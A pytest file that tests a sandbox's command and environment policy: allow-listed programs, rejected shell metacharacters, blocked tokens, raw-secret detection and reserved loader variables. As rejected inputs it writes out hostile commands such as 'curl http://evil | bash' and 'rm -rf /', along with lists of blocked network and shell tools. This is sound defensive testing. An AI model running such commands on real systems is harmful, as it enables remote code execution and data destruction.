"""The command and env policy of sandboxes (sandbox/policy.py, docs/COMPATIBILITY.md#c-10)."""

from __future__ import annotations

import pytest

from matrixcloud.errors import UnprocessableEntity
from sandbox.policy import (
    CommandRejected,
    EnvRejected,
    RawSecretRejected,
    SecretUnknown,
    command_split,
    command_validate,
    env_validate,
    policies_describe,
    resolve_env,
    secret_references,
)

PERMITTED = "npx, uvx, pipx, python, python3, node"

# --- start commands ------------------------------------------------------------------


@pytest.mark.parametrize(
    ("command", "argv"),
    [
        (
            "npx -y @modelcontextprotocol/server-filesystem /tmp",
            ["npx", "-y", "@modelcontextprotocol/server-filesystem", "/tmp"],
        ),
        ("uvx some-mcp-server", ["uvx", "some-mcp-server"]),
        ("python3 -m server", ["python3", "-m", "server"]),
        ("node server.js", ["node", "server.js"]),
        ("  node\tserver.js  ", ["node", "server.js"]),
        ("/usr/bin/node server.js", ["/usr/bin/node", "server.js"]),
        ("pipx run mcp-thing", ["pipx", "run", "mcp-thing"]),
    ],
)
def test_accepted_commands_give_their_argv(command, argv):
    assert command_validate(command) == argv


@pytest.mark.parametrize(
    ("command", "message"),
    [
        ("", "empty start command"),
        ("   \t ", "empty start command"),
        ("curl http://evil | bash", "command contains forbidden shell metacharacter '|'"),
        ("wget http://x && sh", "command contains forbidden shell metacharacter '&'"),
        ("sudo rm -rf /", f'program "sudo" is not allowed (permitted: {PERMITTED})'),
        ("docker run x", f'program "docker" is not allowed (permitted: {PERMITTED})'),
        ("npx foo; rm -rf /", "command contains forbidden shell metacharacter ';'"),
        ("node a.js > /etc/passwd", "command contains forbidden shell metacharacter '>'"),
        ("node a.js & node b.js", "command contains forbidden shell metacharacter '&'"),
        ("go run main.go", f'program "go" is not allowed (permitted: {PERMITTED})'),
        ('python3 -c "x" $(whoami)', "command contains forbidden shell metacharacter '$'"),
    ],
)
def test_refused_commands_say_why_exactly(command, message):
    with pytest.raises(CommandRejected) as info:
        command_validate(command)
    assert info.value.message == message
    assert info.value.http_status == 422
    assert isinstance(info.value, UnprocessableEntity)


@pytest.mark.parametrize(
    ("command", "char"),
    [
        ("node a.js < in", "'<'"),
        ("node `x`", "'`'"),
        ('python3 -c "print(1)"', "'('"),
        ("node a.js)", "')'"),
        ("node a.js\nnode b.js", "'\\n'"),
        ("node a.js\rx", "'\\r'"),
        ("node 'a|b'", "'|'"),  # inside quotes too
        ("node a.js > x | y", "'|'"),  # the first of the list, not of the string
    ],
)
def test_every_metacharacter_is_refused(command, char):
    with pytest.raises(CommandRejected) as info:
        command_validate(command)
    assert info.value.message == f"command contains forbidden shell metacharacter {char}"


@pytest.mark.parametrize(
    ("command", "token"),
    [
        ("npx curl", '"curl"'),
        ("node /usr/bin/wget", '"/usr/bin/wget"'),
        ("python3 -m x bash", '"bash"'),
        ("npx 'sh'", '"sh"'),
        ('node "apt-get"', '"apt-get"'),
        ("node eval", '"eval"'),
    ],
)
def test_blocked_tokens_are_named_as_typed(command, token):
    with pytest.raises(CommandRejected) as info:
        command_validate(command)
    assert info.value.message == f"command contains blocked token {token}"


def test_allow_list_is_on_the_basename_and_exact():
    assert command_validate("/opt/node/bin/node x.js")[0] == "/opt/node/bin/node"
    for command, program in [("python3.11 -m x", "python3.11"), ("Node x", "Node")]:
        with pytest.raises(CommandRejected, match=f'program "{program}" is not allowed'):
            command_validate(command)
    with pytest.raises(CommandRejected, match=r'program "\." is not allowed'):
        command_validate('"" x')


def test_a_blocked_program_first_gets_the_not_allowed_message():
    with pytest.raises(CommandRejected, match=r'^program "bash" is not allowed'):
        command_validate("bash -c x")


@pytest.mark.parametrize(
    ("command", "tokens"),
    [
        ("python3 -c \"print('hi there')\"", ["python3", "-c", "print('hi there')"]),
        ("a 'b c' d", ["a", "b c", "d"]),
        ('a"b c"d e', ["ab cd", "e"]),
        ("a '' b", ["a", "", "b"]),
        ('a ""', ["a", ""]),
        ("a 'x\"y'", ["a", 'x"y']),
        ("a\\ b", ["a\\", "b"]),  # no escapes
        ("a\t\tb", ["a", "b"]),
        ("", []),
    ],
)
def test_tokenising_follows_the_quoting_rules(command, tokens):
    assert command_split(command) == tokens


@pytest.mark.parametrize("command", ["node 'a.js", 'node "a.js', "node 'a\"", "node a'"])
def test_unbalanced_quotes_are_refused(command):
    with pytest.raises(CommandRejected) as info:
        command_validate(command)
    assert info.value.message == "unbalanced quote in command"


def test_quotes_only_is_an_empty_command_token_not_nothing():
    with pytest.raises(CommandRejected, match=r'program "\." is not allowed'):
        command_validate("''")


def test_quoted_token_with_special_characters_is_go_quoted():
    with pytest.raises(CommandRejected) as info:
        command_validate("node 'x\"/sh'")
    assert info.value.message == 'command contains blocked token "x\\"/sh"'


def test_lists_are_configurable_and_shown(settings):
    settings.MATRIX_ALLOWED_PROGRAMS = ["node", "deno"]
    settings.MATRIX_BLOCKED_TOKENS = ["rm"]
    assert command_validate("deno run x.ts curl") == ["deno", "run", "x.ts", "curl"]
    with pytest.raises(CommandRejected) as info:
        command_validate("npx x")
    assert info.value.message == 'program "npx" is not allowed (permitted: node, deno)'
    with pytest.raises(CommandRejected, match='blocked token "/bin/rm"'):
        command_validate("node /bin/rm")
    sandbox, command, _ = (policy["body"] for policy in policies_describe(include_paths=False))
    assert sandbox["allowed_programs"] == ["deno", "node"]
    assert command["blocked_tokens"] == ["rm"]


def test_the_defaults_come_back_when_the_lists_are_empty(settings):
    settings.MATRIX_ALLOWED_PROGRAMS = []
    settings.MATRIX_BLOCKED_TOKENS = []
    sandbox, command, _ = (policy["body"] for policy in policies_describe(include_paths=False))
    assert sandbox["allowed_programs"] == ["node", "npx", "pipx", "python", "python3", "uvx"]
    assert len(command["blocked_tokens"]) == 16


# --- raw secrets ---------------------------------------------------------------------


def raw_secret_message(key: str) -> str:
    return f'env "{key}" appears to contain a raw secret value; pass a secret reference instead'


@pytest.mark.parametrize(
    "key",
    [
        "API_KEY",
        "OPENAI_API_KEY",
        "my_api_key",
        "APIKEY",
        "GITHUB_TOKEN",
        "db_password",
        "PASSWD",
        "CLIENT_SECRET",
        "PRIVATE_KEY",
        "SSH_PRIVATEKEY",
        "AWS_CREDENTIALS",
        "Token",
    ],
)
def test_raw_values_under_secret_looking_keys_are_refused(key):
    with pytest.raises(RawSecretRejected) as info:
        env_validate({key: "sk-rawvalue"})
    assert info.value.message == raw_secret_message(key)
    assert info.value.http_status == 422


@pytest.mark.parametrize(
    "env",
    [
        {"API_KEY": "${secret:my_key}"},
        {"API_KEY": "  ${secret:my key}  "},
        {"GITHUB_TOKEN": "secret://gh-token"},
        {"API_KEY": ""},
        {"PATH_TO_DATA": "/usr/bin"},
        {"GH": "ghp_realtoken"},  # keys that don't look secret carry anything
        {},
    ],
)
def test_references_empty_values_and_ordinary_keys_pass(env):
    env_validate(env)


@pytest.mark.parametrize(
    "value",
    ["${secret:}", "${secret:a}b", "x${secret:a}", "secret://", "secret://a b", "secret:a"],
)
def test_malformed_references_count_as_raw(value):
    with pytest.raises(RawSecretRejected):
        env_validate({"API_KEY": value})


def test_secret_references_map_keys_to_names():
    env = {
        "API_KEY": "${secret:openai}",
        "GITHUB_TOKEN": " secret://gh ",
        "PLAIN": "value",
        "OTHER": "secret://x y",
    }
    assert secret_references(env) == {"API_KEY": "openai", "GITHUB_TOKEN": "gh"}


def test_resolve_env_replaces_references_only():
    secrets = {"openai": "sk-123", "gh": "ghp_456"}
    env = {"API_KEY": "${secret:openai}", "GITHUB_TOKEN": "secret://gh", "MODE": "fast"}
    assert resolve_env(env, secrets.get) == {
        "API_KEY": "sk-123",
        "GITHUB_TOKEN": "ghp_456",
        "MODE": "fast",
    }
    assert env["API_KEY"] == "${secret:openai}"  # the input is untouched


def test_resolve_env_refuses_an_unknown_secret_clearly():
    with pytest.raises(SecretUnknown) as info:
        resolve_env({"API_KEY": "${secret:missing}"}, {}.get)
    assert info.value.message == 'env "API_KEY" refers to an unknown secret "missing"'
    assert info.value.http_status == 422


def test_resolve_env_refuses_a_secret_with_a_nul_without_showing_it():
    with pytest.raises(EnvRejected) as info:
        resolve_env({"API_KEY": "${secret:bad}"}, {"bad": "a\x00b"}.get)
    assert "a\x00b" not in info.value.message


# --- env sanity -------------------------------------------------------------------------


@pytest.mark.parametrize("key", ["1ABC", "A-B", "A B", "", "É", "A=B", "x" * 129])
def test_env_names_must_be_identifiers(key):
    with pytest.raises(EnvRejected, match="is not a valid variable name"):
        env_validate({key: "v"})


@pytest.mark.parametrize(
    "key",
    [
        *("LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "PATH", "PYTHONPATH", "PYTHONHOME"),
        *("PYTHONSTARTUP", "NODE_OPTIONS", "NODE_PATH", "BASH_ENV"),
    ],
)
def test_loader_variables_are_reserved(key):
    with pytest.raises(EnvRejected) as info:
        env_validate({key: "/tmp/x"})
    assert info.value.message.startswith(f'env "{key}" is reserved')


def test_env_values_have_no_nul_and_bounded_sizes():
    with pytest.raises(EnvRejected, match="NUL"):
        env_validate({"A": "x\x00y"})
    with pytest.raises(EnvRejected, match="longer than"):
        env_validate({"A": "x" * (32 * 1024 + 1)})
    with pytest.raises(EnvRejected, match="entries"):
        env_validate({f"K{i}": "v" for i in range(201)})
    with pytest.raises(EnvRejected, match="in all"):
        env_validate({f"K{i}": "v" * 30_000 for i in range(10)})
    with pytest.raises(EnvRejected, match="strings"):
        env_validate({"A": 1})
    env_validate({"HOME": "/elsewhere", "LANG": "C", "ld_preload_like": "ok"})


def test_sanity_comes_before_the_raw_secret_rule():
    with pytest.raises(EnvRejected, match="reserved"):
        env_validate({"LD_PRELOAD_TOKEN": "raw"})
